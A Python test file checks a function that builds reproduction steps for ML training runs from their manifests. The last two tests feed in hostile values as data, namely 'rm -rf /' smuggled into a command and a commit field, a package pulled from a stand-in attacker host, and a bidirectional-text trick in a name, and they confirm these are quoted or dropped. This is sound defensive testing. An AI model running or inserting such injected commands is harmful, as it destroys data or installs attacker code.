from __future__ import annotations

from pathlib import Path

from synthetic import write_run

from dashboard.views.run.logic.reproduce import recipe
from evidence.run import read_run


def test_a_clean_run_can_be_made_again(tmp_path: Path) -> None:
    run = read_run(write_run(tmp_path, "alpha"))
    found = recipe(run.manifest or {}, run.config, run.plan, name="alpha")
    assert found.gaps == ()
    assert found.typed == "trainproof train --config demo.yaml"
    assert found.requirements == "flax==0.12.8\njax==0.10.2\n"
    assert found.steps == (
        "git checkout 0123456789abcdef0123456789abcdef01234567",
        "pip install -r requirements.txt",
        "trainproof train --config config.yaml --output alpha-again",
        "trainproof compare alpha alpha-again",
    )
    assert ("Data set", "own-rows", "dataset.name") in found.facts


def test_a_run_that_was_forced_is_forced_again() -> None:
    for plan, manifest in (({"forced": True}, {}), (None, {"training": {"forced": True}})):
        assert recipe(manifest, {}, plan, name="x").steps[0] == (
            "trainproof train --config config.yaml --output x-again --force"
        )
    assert recipe({"training": {"forced": False}}, {}, {"forced": False}, name="x").steps[0] == (
        "trainproof train --config config.yaml --output x-again"
    )


def test_what_stands_in_the_way_is_said_worst_first() -> None:
    manifest = {
        "code": {"dirty": True, "diff_sha256": "dddd", "commit": None},
        "model": {"weights": "pretrained", "revision": None},
        "devices": {"platform": "tpu"},
        "parent": {"run_id": "before", "step": 1200},
    }
    first, *others = recipe(manifest, None, None, name="x").gaps
    assert first == (
        "The code had uncommitted changes. They cannot be checked out; only their hash is known: dddd. "
        "Commit before a run that counts."
    )
    assert others == [
        "The commit is not stated, so the code is not known. Run from a git checkout.",
        "config.yaml is missing or cannot be read, so the settings are not known in full.",
        "No package versions are stated, so other versions may give other numbers.",
        "The training data has no hash, so other data cannot be compared with it.",
        "The model has no revision, and what its name points to may change.",
        "The run continues before from step 1,200. Make that run first; its checkpoint is needed.",
        "Another kind of device adds in another order: the last digits will differ.",
    ]


def test_nothing_of_a_stranger_becomes_a_command() -> None:
    manifest = {
        "command": ["trainproof", "train; rm -rf /", "--set", "token=abcdefghijkl"],
        "code": {"commit": "main; rm -rf /"},
        "environment": {
            "packages": {"jax": "1 @ http://evil.example/x.whl", "--index-url": "http://evil.example", "ok": "1.0"}
        },
    }
    found = recipe(manifest, {}, None, name="a b")
    assert found.typed == "trainproof 'train; rm -rf /' --set token=[hidden]"
    assert found.requirements == "ok==1.0\n"
    assert found.steps == (
        "pip install -r requirements.txt",
        "trainproof train --config config.yaml --output 'a b-again'",
        "trainproof compare 'a b' 'a b-again'",
    )


def test_no_name_turns_a_command_around() -> None:
    name = "\u202ekcab\n"
    assert recipe({"parent": {"run_id": name}}, {}, None, name=name).steps == (
        "trainproof train --resume 'kcab ' --output 'kcab -again'",
        "trainproof compare 'kcab ' 'kcab -again'",
    )
